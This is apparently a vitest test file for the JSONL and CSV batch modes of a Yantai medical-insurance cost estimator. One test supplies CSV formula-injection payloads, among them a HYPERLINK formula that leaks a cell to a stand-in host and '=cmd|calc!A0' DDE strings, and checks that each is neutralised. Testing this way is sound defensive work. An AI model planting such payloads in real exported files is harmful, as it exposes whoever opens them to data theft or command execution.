import { PassThrough, Readable } from 'node:stream';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { cellValue, MAX_RECORD_CHARS, readHeader, RESULT_COLUMNS, runCsv, runJsonl } from './batch';
import { collector } from './test-support';

/** The batch modes in-process: lines and records in, answers out in order, the batch going on past bad ones. */

// Yantai employee 2018, tier 3, working (第十一条、第十二条): deductible 800;
// (5000 − 800) × 80% + 5000 × 85% + 10000 × 90% = 16610 from the fund; 20000 − 16610 = 3390 out of pocket.
const good = { city: 'yantai', scheme: 'employee', member: 'working', date: '2020-06-01', hospitalLevel: 3, admission: 1, totalCost: 20000 };

/** Feeds `text` in pieces of `size` bytes, so that lines, records and UTF-8 characters straddle chunks. */
function chunked(text: string, size = 7): Readable {
  const bytes = Buffer.from(text);
  const parts: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += size) parts.push(bytes.subarray(i, i + size));
  return Readable.from(parts);
}

async function jsonl(text: string, size?: number) {
  const out = collector();
  const outcome = await runJsonl(chunked(text, size), out.stream);
  const lines = out.text().split('\n');
  expect(lines.pop()).toBe(''); // every output line ends with a newline
  return { ...outcome, lines: lines.map((l) => JSON.parse(l)), raw: out.text() };
}

describe('--jsonl', () => {
  it('answers good and bad lines in order, each with its input line, skipping blank ones; exit code 2', async () => {
    const input = [
      JSON.stringify(good), // 1
      '', // 2: blank, skipped
      '{"city": "yantai", "scheme": "employee", "city": "jinan"}', // 3: a key twice
      '{"city": "yantai", "scheme": }', // 4: a syntax error at column 30
      '   \t', // 5: blank
      JSON.stringify({ ...good, city: 'qingdao' }), // 6: schema error
      JSON.stringify({ ...good, totalCost: 10000, outOfScope: 1000 }), // 7
    ].join('\n');
    const { exitCode, lines } = await jsonl(`${input}\n`);
    expect(exitCode).toBe(2);
    expect(lines.map((l) => l.line)).toEqual([1, 3, 4, 6, 7]);
    expect(lines.map((l) => Object.keys(l)[0])).toEqual(['line', 'line', 'line', 'line', 'line']);

    expect(lines[0]).toMatchObject({ deductible: '800.00', fundPayment: '16610.00', outOfPocket: '3390.00' });
    expect(lines[0].error).toBeUndefined();

    expect(Object.keys(lines[1])).toEqual(['line', 'error']);
    expect(lines[1].error).toMatchObject({ code: 'duplicate-key', key: 'city', line: 3, column: 42 });
    expect(lines[1].error.message).toContain('city');
    expect(lines[1].error.message).toContain('第 3 行第 42 列');

    expect(lines[2].error).toMatchObject({ code: 'invalid-json', line: 4, column: 30 });
    expect(lines[2].error.message).toMatch(/^输入不是有效的 JSON：第 4 行第 30 列附近有语法错误/);

    expect(lines[3].error.code).toBe('invalid-input');
    expect(lines[3].error.message).toContain('city 必须是');

    // Eligible 9000: (5000 − 800) × 80% + 4000 × 85% = 3360 + 3400 = 6760; 10000 − 6760 = 3240.
    expect(lines[4]).toMatchObject({ eligibleCost: '9000.00', fundPayment: '6760.00', outOfPocket: '3240.00' });
  });

  it('exits 0 when every line is estimated, with or without a final newline, CRLF or LF, a BOM first', async () => {
    for (const text of [`${JSON.stringify(good)}\n${JSON.stringify(good)}`, `\ufeff${JSON.stringify(good)}\r\n\r\n${JSON.stringify(good)}\r\n`]) {
      const { exitCode, lines } = await jsonl(text, 3);
      expect(exitCode).toBe(0);
      expect(lines.map((l) => l.outOfPocket)).toEqual(['3390.00', '3390.00']);
      expect(lines.map((l) => l.line)).toEqual(text.includes('\r\n\r\n') ? [1, 3] : [1, 2]);
    }
  });

  it('prints the single-claim result compactly, the line number first and the rest in the same order', async () => {
    const { lines, raw } = await jsonl(JSON.stringify(good));
    expect(raw).not.toContain('\n  ');
    expect(Object.keys(lines[0])).toEqual(['line', 'policy', 'provenance', 'benefit', 'member', 'grade', 'admission', 'totalCost', 'eligibleCost', 'deductible', 'fundPayment', 'supplementPayment', 'outOfPocket', 'supplements', 'steps', 'notes', 'year']);
  });

  it('answers nothing for empty input', async () => {
    expect(await jsonl('')).toMatchObject({ exitCode: 0, lines: [] });
    expect(await jsonl('\n\n')).toMatchObject({ exitCode: 0, lines: [] });
  });

  it('refuses a line too long to hold, and goes on with the next', async () => {
    const long = `{"city": "${'x'.repeat(MAX_RECORD_CHARS + 10)}"}`;
    const { exitCode, lines } = await jsonl(`${long}\n${JSON.stringify(good)}\n`, 1 << 16);
    expect(exitCode).toBe(2);
    expect(lines.map((l) => [l.line, l.error?.code])).toEqual([
      [1, 'line-too-long'],
      [2, undefined],
    ]);
  });

  it('takes a line of exactly the limit whether it ends in LF or CRLF, wherever the chunks split it', async () => {
    const exact = `{"city": "${'x'.repeat(MAX_RECORD_CHARS - 12)}"}`;
    expect(exact).toHaveLength(MAX_RECORD_CHARS);
    // 61,681 × 17 = 1,048,577: a chunk ends right after the \r, before its \n.
    for (const [ending, size] of [['\n', 1 << 16], ['\r\n', 1 << 16], ['\r\n', 61_681]] as const) {
      const { lines } = await jsonl(`${exact}${ending}${JSON.stringify(good)}${ending}`, size);
      expect(lines.map((l) => [l.line, l.error?.code])).toEqual([
        [1, 'invalid-input'],
        [2, undefined],
      ]);
    }
    const over = await jsonl(`${exact}x\r\n`, 61_681);
    expect(over.lines.map((l) => l.error.code)).toEqual(['line-too-long']);
  });

  it('waits for a slow reader: never more than a little output buffered', async () => {
    const n = 1000;
    const input = Array.from({ length: n }, (_, i) => JSON.stringify({ ...good, totalCost: 1000 + i })).join('\n');
    const slow = new PassThrough({ highWaterMark: 1024 });
    let maxBuffered = 0;
    const received: Buffer[] = [];
    const reading = (async () => {
      for await (const chunk of slow) {
        maxBuffered = Math.max(maxBuffered, slow.readableLength + slow.writableLength);
        received.push(chunk as Buffer);
        await new Promise((r) => setTimeout(r, 1));
      }
    })();
    const outcome = await runJsonl(chunked(input, 1 << 14), slow);
    slow.end();
    await reading;
    expect(outcome.exitCode).toBe(0);
    expect(Buffer.concat(received).toString('utf8').trimEnd().split('\n')).toHaveLength(n);
    // Everything would be ~5 MB; with backpressure no more than about one of the writer's 256 KB buffers waits.
    expect(maxBuffered).toBeLessThan(2 * (1 << 18));
  });
});

describe('CSV cells, by one rule for every column', () => {
  it.each([
    ['', undefined],
    ['3', 3],
    ['-0.5', -0.5],
    ['1e3', 1000],
    ['20000.00', 20000],
    ['true', true],
    ['false', false],
    ['2025-01-01', '2025-01-01'],
    ['weihai', 'weihai'],
    ['20,000', '20,000'],
    ['007', '007'],
    [' 3', ' 3'],
    ['null', 'null'],
    // More digits than a JSON number holds: the text, read (and refused) as the field's own rules say.
    ['99999999.999999999', '99999999.999999999'],
    ['1e400', '1e400'],
    ['[{"date":"2025-01-01","hospitalLevel":3,"totalCost":100}]', [{ date: '2025-01-01', hospitalLevel: 3, totalCost: 100 }]],
    ['{"deductible": 500}', { deductible: 500 }],
  ])('%j → %j', (cell, value) => {
    const read = cellValue(cell, 'x');
    if (value === undefined) expect(read).toBeUndefined();
    else expect(read).toEqual({ ok: true, value });
  });

  it('reports a JSON cell with a syntax error or a repeated key, naming the column', () => {
    expect(cellValue('[{"date": }]', 'earlier')).toMatchObject({ ok: false, error: { code: 'invalid-json', line: 1, column: 11 } });
    const twice = cellValue('{"deductible": 1, "deductible": 2}', 'overrides');
    expect(twice).toMatchObject({ ok: false, error: { code: 'duplicate-key', key: 'deductible' } });
    expect(twice && !twice.ok && twice.error.message).toMatch(/^overrides 列中字段 deductible 重复出现/);
  });

  it('reads field names from the header and refuses a header it cannot use', () => {
    expect(readHeader(['city', ' scheme ', 'benefit'])).toEqual({ ok: true, fields: ['city', 'scheme', 'benefit'] });
    expect(readHeader(['city', 'city'])).toMatchObject({ ok: false, problem: expect.stringContaining('city 列出现了不止一次') });
    expect(readHeader(['city', ''])).toMatchObject({ ok: false, problem: expect.stringContaining('第 2 列没有字段名') });
  });

  it.each(['__proto__', 'constructor', 'prototype'])('refuses %s as a column name', (name) => {
    // With an object cell, __proto__ made the row's fields be read through the prototype, and it was estimated.
    expect(readHeader(['city', name])).toEqual({ ok: false, problem: `CSV 表头第 2 列的字段名 ${name} 不能使用。` });
  });

  it('refuses a header of more than 64 columns (a claim has about 20 fields)', () => {
    expect(readHeader(Array.from({ length: 64 }, (_, i) => `c${i}`)).ok).toBe(true);
    expect(readHeader(Array.from({ length: 65 }, (_, i) => `c${i}`))).toEqual({ ok: false, problem: 'CSV 表头有 65 列，最多 64 列。' });
  });
});

async function csv(text: string, size?: number) {
  const out = collector();
  const outcome = await runCsv(chunked(text, size), out.stream);
  const raw = out.text();
  return { ...outcome, raw, rows: parseCsv(raw, { bom: true, relax_column_count: true }) as string[][] };
}

describe('--csv', () => {
  // 290,000 at a tier-3 hospital in March: the fund pays (5000 − 800) × 80% + 5000 × 85% + 280000 × 90%
  // = 259,610, capped at the annual 250,000 (第十四条). The June stay is then all over the cap: the fund
  // pays nothing and 大额救助金 pays 90% of its 20,000 (第三十条) = 18,000; 2,000 is left to pay.
  const earlierCell = '"[{""date"": ""2020-03-01"",\n  ""hospitalLevel"": 3, ""totalCost"": 290000}]"';
  const input = [
    'city,scheme,member,date,hospitalLevel,admission,totalCost,outOfScope,earlier',
    'yantai,employee,working,2020-06-01,3,1,"20,000",,',
    `yantai,employee,working,2020-06-01,3,2,20000,,${earlierCell}`,
    // (5000 − 800) × 80% + 5000 × 85% + 8500 × 90% = 15260 on an eligible 18500; 20000 − 15260 = 4740.
    'yantai,employee,working,2020-06-01,3,1,20000,1500,',
    ',,,,,,,,',
    'yantai,employee,"work""ing",2020-06-01,3,1,20000,,',
    'yantai,employee,working,2020-06-01,3,2,20000,,"[{""date"": ""2020-03-01"", ""date"": ""2020-03-02""}]"',
    'yantai,employee,working,2020-06-01,3,1,20000',
    'yantai,employee,"retired\nworking",2020-06-01,3,1,20000,,',
  ];
  const text = `\ufeff${input.join('\r\n')}\r\n`;

  it('answers each record under the header, in order, with the result columns; exit code 2 for the bad rows', async () => {
    const { exitCode, problem, rows } = await csv(text);
    expect(problem).toBeUndefined();
    expect(exitCode).toBe(2);
    const header = input[0]!.split(',');
    expect(rows[0]).toEqual([...header, ...RESULT_COLUMNS]);
    expect(rows).toHaveLength(8); // the header and seven records; the line of commas is blank
    const at = (row: string[], col: string) => row[rows[0]!.indexOf(col)];

    expect(rows[1]!.slice(header.length)).toEqual(['20000.00', '800.00', '16610.00', '0.00', '3390.00', 'yantai-employee-2018', '']);
    expect(at(rows[1]!, 'totalCost')).toBe('20,000');

    expect(at(rows[2]!, 'earlier')).toBe('[{"date": "2020-03-01",\n  "hospitalLevel": 3, "totalCost": 290000}]');
    // The earlier 290,000 used up the 250,000 cap: no deductible is applied, 大额救助金 pays 20000 × 90%.
    expect(rows[2]!.slice(header.length)).toEqual(['20000.00', '0.00', '0.00', '18000.00', '2000.00', 'yantai-employee-2018', '']);

    expect(rows[3]!.slice(header.length)).toEqual(['18500.00', '800.00', '15260.00', '0.00', '4740.00', 'yantai-employee-2018', '']);

    expect(at(rows[4]!, 'member')).toBe('work"ing');
    expect(at(rows[4]!, 'outOfPocket')).toBe('');
    expect(at(rows[4]!, 'error')).toMatch(/^输入有误：人员类别（member）/);

    expect(at(rows[5]!, 'error')).toMatch(/^earlier 列中字段 0\.date 重复出现（第 1 行第 25 列）/);

    expect(rows[6]!).toHaveLength(header.length + RESULT_COLUMNS.length);
    expect(at(rows[6]!, 'error')).toBe('这一行有 7 个单元格，表头有 9 列。');

    expect(at(rows[7]!, 'member')).toBe('retired\nworking');
    expect(at(rows[7]!, 'error')).toMatch(/^输入有误：人员类别（member）/);
  });

  it('writes RFC 4180: a BOM when the input had one, CRLF, and cells with commas, quotes or line breaks quoted', async () => {
    const { raw } = await csv(text, 5);
    expect(raw.startsWith('\ufeffcity,scheme,')).toBe(true);
    const lines = raw.split('\r\n');
    expect(lines[1]).toBe('yantai,employee,working,2020-06-01,3,1,"20,000",,,20000.00,800.00,16610.00,0.00,3390.00,yantai-employee-2018,');
    expect(raw).toContain(`,${earlierCell},`);
    expect(raw).toContain(',"work""ing",');
    expect(raw).toContain(',"retired\nworking",');
    expect(raw.endsWith('\r\n')).toBe(true);
    expect((await csv(text.slice(1))).raw.startsWith('city,')).toBe(true);
  });

  it('reads LF and mixed line endings alike, and exits 0 when every record is estimated', async () => {
    const mixed = `${input.slice(0, 4).join('\n')}\r\n`;
    const { exitCode, rows } = await csv(mixed, 4);
    expect(exitCode).toBe(0);
    expect(rows.map((r) => r.at(-3))).toEqual(['outOfPocket', '3390.00', '2000.00', '4740.00']);
  });

  it('takes columns in any order, and fields unknown to the claim as errors of their rows', async () => {
    const { rows } = await csv('totalCost,hospitalLevel,admission,city,scheme,member,date,ward\n20000,3,1,yantai,employee,working,2020-06-01,\n20000,3,1,yantai,employee,working,2020-06-01,7\n');
    expect(rows[1]!.at(-3)).toBe('3390.00');
    expect(rows[2]!.at(-1)).toContain('不认识的字段：ward');
  });

  it('neutralises every cell a spreadsheet would run as a formula, with a leading apostrophe; numbers stay numbers', async () => {
    const formulas = ['=HYPERLINK("http://x.example/?"&A1,"看结果")', '+1+cmd|calc!A0', '-2+3', '@SUM(A1)', '\tx', '\rx'];
    const header = `=cmd|calc!A0,city,scheme,member,date,hospitalLevel,admission,totalCost`;
    const rows = formulas.map((f) => `"${f.replaceAll('"', '""')}",yantai,employee,working,2020-06-01,3,1,20000`);
    const { rows: out } = await csv(`${header}\n${rows.join('\n')}\n-5,yantai,employee,working,2020-06-01,3,1,-1\n`);
    expect(out[0]![0]).toBe("'=cmd|calc!A0");
    expect(out.slice(1, -1).map((r) => r[0])).toEqual(formulas.map((f) => `'${f}`));
    // The column's name is in every row's error; the message starts with it only when the cell is JSON.
    expect(out[1]!.at(-1)).toMatch(/^输入有误：输入含有不认识的字段：=cmd\|calc!A0/);
    expect(out.at(-1)!.slice(0, 1)).toEqual(['-5']);
    expect(out.at(-1)!.slice(7, 8)).toEqual(['-1']);
    for (const cell of out.flat()) expect(/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)).toBe(false);
  });

  it('neutralises an error that starts with a column name', async () => {
    const { rows } = await csv('=A1,city\n{,yantai\n');
    expect(rows[1]!.at(-1)).toMatch(/^'=A1 列不是有效的 JSON/);
  });

  it('stops at a header it cannot use, printing nothing', async () => {
    expect(await csv('city,city\nyantai,yantai\n')).toMatchObject({ exitCode: 2, raw: '', problem: expect.stringContaining('city 列出现了不止一次') });
  });

  it('answers the records before an unclosed quote, then stops with the reason', async () => {
    const { exitCode, rows, problem } = await csv(`${input.slice(0, 2).join('\n')}\nyantai,employee,"working,2020-06-01,3,1,20000,,\n`);
    expect(exitCode).toBe(2);
    expect(rows).toHaveLength(2);
    expect(rows[1]!.at(-3)).toBe('3390.00');
    expect(problem).toContain('双引号');
  });
});
